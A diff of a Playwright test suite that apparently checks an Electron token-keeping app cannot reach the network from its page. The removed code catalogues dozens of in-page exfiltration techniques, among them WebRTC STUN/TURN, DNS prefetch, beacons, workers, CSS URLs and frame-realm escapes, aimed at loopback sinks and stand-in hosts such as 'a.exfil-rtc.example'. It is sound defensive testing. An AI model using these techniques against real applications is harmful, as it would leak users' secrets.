@@ -1,294 +1,55 @@
 /**
- * [Note: the window has no network] Every way out of a page that is known, tried at once, with the proof at the socket:
- * listeners for UDP and TCP on this computer, names that only a look-up would tell, and Chromium's own network log.
+ * [Note: the window has no network] Every way out of a page that is known, and those that the browser's own lists name, with the proof at
+ * the socket: listeners for UDP, TCP and mDNS on this computer, names that only a look-up would tell, and Chromium's own network log.
  */
-import { createSocket } from 'node:dgram';
-import { once } from 'node:events';
 import { existsSync, readFileSync } from 'node:fs';
-import { type AddressInfo, createServer } from 'node:net';
 import { join } from 'node:path';
 import { expect, type Page } from '@playwright/test';
 import { answerDialogs, test } from './app.ts';
+import { isPackaged, type Started } from './packaged.ts';
+import { tryElements, tryFunctions, tryLinks, tryStyles } from './ways-out/generated.ts';
+import { prepare, triedIn } from './ways-out/page.ts';
+import { tryRealms, tryReplacedParts, tryWebRtc } from './ways-out/realms.ts';
+import { tryRequests } from './ways-out/requests.ts';
+import { MARK, sinks } from './ways-out/sinks.ts';
 
-/** Listens on loopback for anything that arrives. */
-async function sinks() {
-  const packets: number[] = [];
-  const udp = createSocket('udp4');
-  udp.on('message', (message) => packets.push(message.length));
-  udp.bind(0, '127.0.0.1');
-  await once(udp, 'listening');
-  const connections: string[] = [];
-  const tcp = createServer((socket) => {
-    connections.push('connected');
-    socket.on('data', (data) => connections.push(data.toString('latin1').slice(0, 80)));
-    socket.on('error', () => undefined);
-  });
-  await once(tcp.listen(0, '127.0.0.1'), 'listening');
-  return {
-    packets,
-    connections,
-    ports: { udp: udp.address().port, tcp: (tcp.address() as AddressInfo).port },
-    close() {
-      udp.close();
-      tcp.close();
-    },
-  };
+interface NetworkLog {
+  constants: { logEventTypes: Record<string, number> };
+  events: { type: number; params?: { address?: string; host?: string } }[];
 }
 
-/** Runs in the page. Each way is tried; what throws is refused, what does not is told by the sinks. */
-async function tryEveryWay(window: Page, ports: { udp: number; tcp: number }): Promise<string[]> {
-  return window.evaluate(async ({ udp, tcp }) => {
-    const tried: string[] = [];
-    const web = `http://127.0.0.1:${tcp}`;
-    const attempt = async (name: string, way: () => unknown): Promise<void> => {
-      tried.push(name);
-      try {
-        await Promise.race([way(), new Promise((resolve) => setTimeout(resolve, 1500))]);
-      } catch {
-        // Refused.
-      }
-    };
-    const peer = (urls: string, policy: RTCIceTransportPolicy = 'all') =>
-      new Promise((resolve) => {
-        const connection = new RTCPeerConnection({
-          iceServers: [{ urls, username: 'avery.howard@contoso.example', credential: 'x' }],
-          iceTransportPolicy: policy,
-        });
-        connection.createDataChannel('x');
-        void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
-        setTimeout(resolve, 1200);
-      });
-    const link = (rel: string, href: string, more: object = {}, page = document): void =>
-      page.head.append(Object.assign(page.createElement('link'), { rel, href, ...more }));
-    const element = (tag: string, fields: object): HTMLElement => {
-      const made = Object.assign(document.createElement(tag), fields);
-      document.body.append(made);
-      return made;
-    };
+/** Asserts that a log of Chromium's network service has no look-up, no connection, and nothing of what was tried. */
+async function assertNothingIn(log: string): Promise<void> {
+  await expect.poll(() => existsSync(log) && readFileSync(log, 'utf8').length).toBeGreaterThan(1000);
+  const text = readFileSync(log, 'utf8');
+  const whole = text.trimEnd().endsWith('}') ? text : text.replace(/,\s*$/, ']}');
+  const { constants, events } = JSON.parse(whole) as NetworkLog;
+  const kinds = new Map(Object.entries(constants.logEventTypes).map(([name, type]) => [type, name]));
+  const met = (pattern: RegExp) =>
+    events
+      .filter(({ type }) => pattern.test(kinds.get(type) ?? ''))
+      .map(({ type, params }) => ({ kind: kinds.get(type), params }));
+  expect(met(/^HOST_RESOLVER_/).map(({ params }) => params)).toEqual([]);
+  expect(met(/^(?:TCP_CONNECT_ATTEMPT|TCP_CONNECT|UDP_CONNECT|UDP_LOCAL_ADDRESS|UDP_BYTES_SENT)$/)).toEqual(
+    [],
+  );
+  expect([...new Set(text.match(new RegExp(`${MARK}-[\\w-]+`, 'g')) ?? [])]).toEqual([]);
+}
 
-    await attempt('WebRTC STUN over UDP', () => peer(`stun:127.0.0.1:${udp}`));
-    await attempt('WebRTC TURN over UDP', () => peer(`turn:127.0.0.1:${udp}`, 'relay'));
-    await attempt('WebRTC TURN over TCP', () => peer(`turn:127.0.0.1:${tcp}?transport=tcp`, 'relay'));
-    await attempt('WebRTC TURN over TLS', () => peer(`turns:127.0.0.1:${tcp}?transport=tcp`, 'relay'));
-    await attempt('WebRTC STUN by name', () => peer('stun:a.exfil-rtc.example:3478'));
-    await attempt('WebRTC TURN by name', () => peer('turn:a.exfil-turn.example:3478?transport=tcp', 'relay'));
-    await attempt('WebRTC remote candidate', async () => {
-      const [a, b] = [new RTCPeerConnection(), new RTCPeerConnection()];
-      a.createDataChannel('x');
-      await a.setLocalDescription(await a.createOffer());
-      await b.setRemoteDescription(a.localDescription!);
-      await b.setLocalDescription(await b.createAnswer());
-      await a.setRemoteDescription(b.localDescription!);
-      for (const protocol of ['udp', 'tcp']) {
-        const port = protocol === 'udp' ? udp : tcp;
-        const more = protocol === 'tcp' ? ' tcptype passive' : '';
-        const candidate = `candidate:1 1 ${protocol} 2122260223 127.0.0.1 ${port} typ host${more}`;
-        await a.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 });
-      }
-      await a.addIceCandidate({
-        candidate: `candidate:2 1 udp 2122260223 a.exfil-mdns.local ${udp} typ host`,
-        sdpMid: '0',
-        sdpMLineIndex: 0,
-      });
-      await new Promise((resolve) => setTimeout(resolve, 1200));
-    });
-    // Realms of their own, in which nothing was removed.
-    const realmOf = async (name: string, make: () => Window | null | undefined) =>
-      attempt(`WebRTC in ${name}`, async () => {
-        const Connection = (make() as (Window & { RTCPeerConnection?: typeof RTCPeerConnection }) | null)
-          ?.RTCPeerConnection;
-        if (Connection === undefined) return;
-        const connection = new Connection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });
-        connection.createDataChannel('x');
-        await connection.setLocalDescription(await connection.createOffer());
-        await connection.addIceCandidate({
-          candidate: `candidate:2 1 udp 2122260223 a.exfil-realm.local ${udp} typ host`,
-          sdpMid: '0',
-          sdpMLineIndex: 0,
-        });
-        await new Promise((resolve) => setTimeout(resolve, 1200));
-      });
-    await realmOf('a frame', () => (element('iframe', {}) as HTMLIFrameElement).contentWindow);
-    await realmOf(
-      'an object',
-      () => (element('object', { data: 'about:blank' }) as HTMLObjectElement).contentWindow,
-    );
-    await realmOf('a frame by namespace', () => {
-      const frame = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:iframe') as HTMLIFrameElement;
-      document.body.append(frame);
-      return frame.contentWindow;
-    });
-    await realmOf('a frame with a hostile name', () => {
-      let reads = 0;
-      const name = { toString: () => (reads++ === 0 ? 'p' : 'iframe') } as unknown as string;
-      const frame = document.createElement(name) as HTMLIFrameElement;
-      document.body.append(frame);
-      return frame.contentWindow;
-    });
-    await realmOf('a frame with replaced built-ins', () => {
-      RegExp.prototype.exec = () => null;
-      RegExp.prototype.test = () => false;
-      return (element('iframe', {}) as HTMLIFrameElement).contentWindow;
-    });
-    await realmOf('a custom element', () => {
-      class Frame extends HTMLIFrameElement {}
-      customElements.define('x-frame', Frame, { extends: 'iframe' });
-      const frame = new Frame();
-      document.body.append(frame);
-      return frame.contentWindow;
-    });
-    await realmOf('a parsed frame', () => {
-      document.body.insertAdjacentHTML('beforeend', '<iframe id="parsed"></iframe>');
-      return document.querySelector<HTMLIFrameElement>('#parsed')?.contentWindow;
-    });
-    await realmOf('another document', () => {
-      const frame = new Document().createElementNS('http://www.w3.org/1999/xhtml', 'iframe');
-      document.body.append(document.adoptNode(frame));
-      return (frame as HTMLIFrameElement).contentWindow;
-    });
-    await realmOf('a transformation', () => {
-      const sheet = document.implementation.createDocument(
-        'http://www.w3.org/1999/XSL/Transform',
-        'xsl:stylesheet',
-        null,
-      );
-      const template = sheet.createElementNS('http://www.w3.org/1999/XSL/Transform', 'xsl:template');
-      template.setAttribute('match', '/');
-      const made = sheet.createElementNS('http://www.w3.org/1999/XSL/Transform', 'xsl:element');
-      made.setAttribute('name', 'iframe');
-      template.append(made);
-      sheet.documentElement.setAttribute('version', '1.0');
-      sheet.documentElement.append(template);
-      const processor = new XSLTProcessor();
-      processor.importStylesheet(sheet);
-      document.body.append(processor.transformToFragment(sheet, document));
-      return document.querySelector('iframe')?.contentWindow;
-    });
-    await realmOf('a window', () => open('about:blank'));
-    await attempt('dns-prefetch', () => link('dns-prefetch', 'https://a.exfil-prefetch.example'));
-    await attempt('preconnect', () => link('preconnect', 'https://a.exfil-preconnect.example'));
-    await attempt('preconnect to loopback', () => link('preconnect', web));
-    for (const rel of [
-      'prefetch',
-      'preload',
-      'modulepreload',
-      'icon',
-      'manifest',
-      'stylesheet',
-      'prerender',
-      'next',
-    ]) {
-      await attempt(`link ${rel}`, () => link(rel, `${web}/${rel}`, { as: 'image' }));
-      await attempt(`link ${rel} by name`, () => link(rel, `https://a.exfil-${rel}.example/`));
-    }
-    await attempt('dns-prefetch in a frame', async () => {
-      const frame = element('iframe', {}) as HTMLIFrameElement;
-      await new Promise((resolve) => setTimeout(resolve, 300));
-      link('dns-prefetch', 'https://a.exfil-frame.example', {}, frame.contentDocument!);
-    });
-    await attempt('dns-prefetch in srcdoc', () =>
-      element('iframe', { srcdoc: '<link rel="dns-prefetch" href="https://a.exfil-srcdoc.example">' }),
-    );
-    await attempt('dns-prefetch control and anchors', () => {
-      const meta = Object.assign(document.createElement('meta'), { content: 'on' });
-      meta.httpEquiv = 'x-dns-prefetch-control';
-      document.head.append(meta);
-      element('a', { href: 'https://a.exfil-anchor.example/', textContent: 'x' });
-    });
-    await attempt('ping', () => {
-      const anchor = element('a', { href: '#x' });
-      anchor.setAttribute('ping', `${web}/ping`);
-      anchor.click();
-    });
-    await attempt('beacon', () => navigator.sendBeacon(`${web}/beacon`, 'x'));
-    await attempt('fetch', () => fetch(`${web}/fetch`));
-    await attempt('fetch without CORS', () => fetch(`${web}/fetch`, { mode: 'no-cors', keepalive: true }));
-    await attempt('XMLHttpRequest', () => {
-      const request = new XMLHttpRequest();
-      request.open('GET', `${web}/xhr`);
-      request.send();
-    });
-    await attempt('WebSocket', () => new WebSocket(`ws://127.0.0.1:${tcp}/`));
-    await attempt('EventSource', () => new EventSource(`${web}/events`));
-    await attempt('WebTransport', () => new WebTransport(`https://127.0.0.1:${udp}/x`).ready);
-    await attempt('worker', () => new Worker(`${web}/worker.js`));
-    await attempt('worker of a blob', () => {
-      const code = `fetch('${web}/in-worker'); new WebSocket('ws://127.0.0.1:${tcp}/in-worker')`;
-      return new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
-    });
-    await attempt('shared worker', () => new SharedWorker(`${web}/shared.js`));
-    await attempt('service worker', () => navigator.serviceWorker.register(`${web}/service.js`));
-    await attempt('script', () => element('script', { src: `${web}/script.js` }));
-    await attempt('import()', () => import(`${web}/module.js`));
-    await attempt('image', () => element('img', { src: `${web}/image`, srcset: `${web}/set 2x` }));
-    await attempt('video', () =>
-      element('video', { src: `${web}/video`, poster: `${web}/poster`, preload: 'auto' }),
-    );
-    await attempt('audio', () => element('audio', { src: `${web}/audio`, preload: 'auto' }));
-    await attempt('object', () => element('object', { data: `${web}/object` }));
-    await attempt('embed', () => element('embed', { src: `${web}/embed` }));
-    await attempt('frame', () => element('iframe', { src: `${web}/frame` }));
-    await attempt('input of an image', () => element('input', { type: 'image', src: `${web}/input` }));
-    await attempt('track', () =>
-      element('video', {}).append(
-        Object.assign(document.createElement('track'), { src: `${web}/track`, default: true }),
-      ),
-    );
-    await attempt('CSS', () => {
-      const sheet = new CSSStyleSheet();
-      sheet.replaceSync(`body { background: url(${web}/css); cursor: url(${web}/cursor), auto }`);
-      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
-    });
-    await attempt('style attribute', () =>
-      element('div', {}).style.setProperty('background', `url(${web}/style)`),
-    );
-    await attempt('font', () => new FontFace('x', `url(${web}/font)`).load());
-    await attempt('SVG', () => {
-      const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
-      image.setAttribute('href', `${web}/svg`);
-      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
-      svg.append(image);
-      document.body.append(svg);
-    });
-    await attempt('speculation rules', () => {
-      const rules = { prefetch: [{ source: 'list', urls: ['https://a.exfil-speculation.example/'] }] };
-      element('script', { type: 'speculationrules', textContent: JSON.stringify(rules) });
-    });
-    await attempt('form', () => {
-      const form = element('form', { action: `${web}/form`, method: 'post' }) as HTMLFormElement;
-      form.submit();
-    });
-    await attempt('open', () => open(`${web}/open`));
-    await attempt('open by name', () => open('https://a.exfil-open.example/'));
-    await attempt('location', () => void (location.href = `${web}/location`));
-    await attempt('location by name', () => void (location.href = 'https://a.exfil-location.example/'));
-    await attempt('refresh', () => {
-      const meta = Object.assign(document.createElement('meta'), { content: `0;url=${web}/refresh` });
-      meta.httpEquiv = 'refresh';
-      document.head.append(meta);
-    });
-    await attempt('download', () => element('a', { href: `${web}/download`, download: 'x' }).click());
-    await attempt('report', () => {
-      const meta = Object.assign(document.createElement('meta'), {
-        content: `img-src 'none'; report-uri ${web}/report`,
-      });
-      meta.httpEquiv = 'Content-Security-Policy';
-      document.head.append(meta);
-    });
-    await attempt('speech', () => speechSynthesis.speak(new SpeechSynthesisUtterance('x')));
-    await attempt('federated sign-in', () =>
-      navigator.credentials.get({
-        identity: { providers: [{ configURL: `${web}/fedcm`, clientId: 'x' }] },
-      } as never),
-    );
-    await attempt('payment', () =>
-      new PaymentRequest([{ supportedMethods: `${web}/pay` }], {
-        total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
-      }).show(),
-    );
-    await new Promise((resolve) => setTimeout(resolve, 1500));
-    return tried;
-  }, ports);
+/** Writes a log of the network from now on, where main can be asked to. Returns its end; undefined for a packaged app. */
+async function logFromMain(started: Started, log: string): Promise<(() => Promise<void>) | undefined> {
+  if (isPackaged(started)) return undefined;
+  await started.app.evaluate(
+    ({ netLog }, file) => netLog.startLogging(file, { captureMode: 'everything' }),
+    log,
+  );
+  return () => started.app.evaluate(({ netLog }) => netLog.stopLogging());
+}
+
+async function assertStillThere(window: Page): Promise<void> {
+  expect(window.url()).toBe('app://tokenkeep/');
+  await window.reload();
+  await window.getByRole('listbox', { name: 'Accounts' }).waitFor();
 }
 
 test('@packaged no way out of the page reaches a socket or has a name looked up', async ({
@@ -297,36 +58,139 @@ test('@packaged no way out of the page reaches a socket or has a name looked up'
 }) => {
   test.setTimeout(180_000);
   const here = await sinks();
-  const log = join(keyring.env['HOME'] ?? '', 'net-log.json');
+  await here.prove();
+  const home = keyring.env['HOME'] ?? '';
+  const log = join(home, 'net-log.json');
+  // A packaged app refuses the switch that writes a log: there the log begins with the attack, and in a release the sinks alone are the proof.
   const packaged = test.info().project.name.includes('packaged');
-  // A packaged app refuses the switch that writes a log: there the sinks alone are the proof.
   const started = await start(packaged ? ['--demo'] : ['--demo', `--log-net-log=${log}`]);
-  await started.window.getByRole('listbox', { name: 'Accounts' }).waitFor();
-  const tried = await tryEveryWay(started.window, here.ports);
-  expect(tried.length).toBeGreaterThan(60);
-  await started.quit();
+  const { window, quit } = started;
+  await window.getByRole('listbox', { name: 'Accounts' }).waitFor();
+  const endLog = packaged ? await logFromMain(started, log) : undefined;
+  await prepare(window, here.ports);
+  await tryWebRtc(window);
+  await tryRealms(window);
+  await tryRequests(window);
+  await tryLinks(window);
+  await tryStyles(window);
+  await tryElements(window);
+  await tryFunctions(window);
+  await tryReplacedParts(window);
+  const { tried, realms } = await triedIn(window);
+  await window.waitForTimeout(1500); // what is still under way
+  await assertStillThere(window);
+  await endLog?.();
+  await quit();
   here.close();
-  expect({ udp: here.packets, tcp: here.connections }).toEqual({ udp: [], tcp: [] });
-  if (packaged) return;
+  test.info().annotations.push({ type: 'ways out tried', description: String(tried.length) });
+  expect(tried.length).toBeGreaterThan(2000);
+  expect(realms).toEqual([]);
+  expect({ udp: here.packets, tcp: here.connections, mdns: here.questions }).toEqual({
+    udp: [],
+    tcp: [],
+    mdns: [],
+  });
+  if (!packaged || endLog !== undefined) await assertNothingIn(log);
+});
 
-  await expect.poll(() => existsSync(log) && readFileSync(log, 'utf8').length).toBeGreaterThan(1000);
-  const text = readFileSync(log, 'utf8');
-  const { constants, events } = JSON.parse(
-    text.trimEnd().endsWith('}') ? text : text.replace(/,\s*$/, ']}'),
-  ) as {
-    constants: { logEventTypes: Record<string, number> };
-    events: { type: number; params?: { address?: string; host?: string } }[];
+/** Pastes in the window as the user's own Paste does. */
+const paste = (app: Started['app']): Promise<void> =>
+  app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]!.webContents.paste());
+
+test('markup that the user pastes or drops makes no frame', async ({ start }) => {
+  const { app, window, quit } = await start(['--demo']);
+  await window.getByRole('listbox', { name: 'Accounts' }).waitFor();
+  const html = '<b>x</b><iframe></iframe><object data="about:blank"></object><embed src="about:blank">';
+  await app.evaluate(({ clipboard }, markup) => {
+    const write = Reflect.get(clipboard, 'write') as (data: object) => void;
+    Reflect.apply(write, clipboard, [{ html: markup, text: 'words' }]);
+  }, html);
+  await window.evaluate((markup) => {
+    // What the page itself does about it is no protection.
+    Event.prototype.preventDefault = () => undefined;
+    Event.prototype.stopImmediatePropagation = () => undefined;
+    const add = (id: string, tag: string, left: number): HTMLElement => {
+      const made = Object.assign(document.createElement(tag), { id: `attack-${id}`, textContent: id });
+      Object.assign(made.style, { position: 'fixed', zIndex: '9999', top: '0', left: `${left}px` });
+      Object.assign(made.style, { width: '100px', height: '100px', userSelect: 'text' });
+      document.body.append(made);
+      return made;
+    };
+    const from = add('from', 'div', 0);
+    from.draggable = true;
+    from.addEventListener('dragstart', ({ dataTransfer }) => {
+      dataTransfer?.setData('text/html', markup);
+      dataTransfer?.setData('text/plain', 'dragged');
+    });
+    for (const [name, target] of Object.entries({
+      to: add('to', 'div', 200),
+      field: add('field', 'textarea', 400),
+    })) {
+      if (name === 'to') target.contentEditable = 'true';
+      target.addEventListener('dragover', (event) => Reflect.set(event, 'returnValue', true));
+    }
+  }, html);
+  const into = async (id: string): Promise<string> => {
+    await window.evaluate((name) => {
+      const target = document.querySelector<HTMLElement>(`#attack-${name}`)!;
+      target.focus();
+      if (target instanceof HTMLTextAreaElement) target.select();
+      else getSelection()?.selectAllChildren(target);
+    }, id);
+    await paste(app);
+    await window.mouse.move(20, 20);
+    await window.mouse.down();
+    for (const [x, y] of [
+      [120, 30],
+      [id === 'to' ? 250 : 450, 30],
+      [id === 'to' ? 255 : 455, 35],
+    ] as const)
+      await window.mouse.move(x, y, { steps: 5 });
+    await window.mouse.up();
+    return window.evaluate((name) => {
+      const target = document.querySelector<HTMLTextAreaElement>(`#attack-${name}`)!;
+      return `${target.innerHTML} ${target.value}`;
+    }, id);
   };
-  const kinds = new Map(Object.entries(constants.logEventTypes).map(([name, type]) => [type, name]));
-  const met = (pattern: RegExp) =>
-    events
-      .filter(({ type }) => pattern.test(kinds.get(type) ?? ''))
-      .map(({ type, params }) => ({ kind: kinds.get(type), params }));
-  expect(met(/^HOST_RESOLVER_MANAGER_(?:REQUEST|JOB)$/).map(({ params }) => params?.host)).toEqual([]);
-  expect(met(/^TCP_CONNECT_ATTEMPT$/)).toEqual([]);
-  expect(met(/^UDP_BYTES_SENT$/)).toEqual([]);
-  expect(met(/^HOST_RESOLVER_(?:SYSTEM_TASK|DNS_TASK)$/)).toEqual([]);
-  expect([...new Set(text.match(/exfil-[\w-]+/g) ?? [])]).toEqual([]);
+  // Pasted in order, so what the editable text would have got is there by then.
+  const edited = await into('to');
+  await expect.poll(() => into('field')).toContain('words');
+  expect(edited).toBe('to undefined');
+  expect(await window.evaluate(() => globalThis.length)).toBe(0);
+  await quit();
+});
+
+test('a frame that is there all the same goes with the page', async ({ start }) => {
+  const { window, quit } = await start(['--demo']);
+  await window.getByRole('listbox', { name: 'Accounts' }).waitFor();
+  await window.evaluate(() => void Object.assign(globalThis, { before: true }));
+  // No policy and no guard is asked here.
+  const devTools = await window.context().newCDPSession(window);
+  const { root } = await devTools.send('DOM.getDocument');
+  const { nodeId } = await devTools.send('DOM.querySelector', { nodeId: root.nodeId, selector: 'body' });
+  await devTools.send('DOM.setOuterHTML', {
+    nodeId,
+    outerHTML: '<body><iframe></iframe></body>',
+  });
+  await window.getByRole('listbox', { name: 'Accounts' }).waitFor();
+  expect(await window.evaluate(() => [globalThis.length, Reflect.has(globalThis, 'before')])).toEqual([
+    0,
+    false,
+  ]);
+  await quit();
+});
+
+test('the page has none of the features that a policy can deny', async ({ start }) => {
+  const { window, quit, output } = await start(['--demo']);
+  await window.getByRole('listbox', { name: 'Accounts' }).waitFor();
+  const allowed = await window.evaluate(() =>
+    (
+      document as unknown as { featurePolicy: { allowedFeatures(): string[] } }
+    ).featurePolicy.allowedFeatures(),
+  );
+  expect(allowed).toEqual([]);
+  expect(output.join('')).not.toMatch(/Permissions-Policy/i);
+  await quit();
 });
 
 test('a script reads no clipboard; the user’s own Paste works', async ({ start }) => {
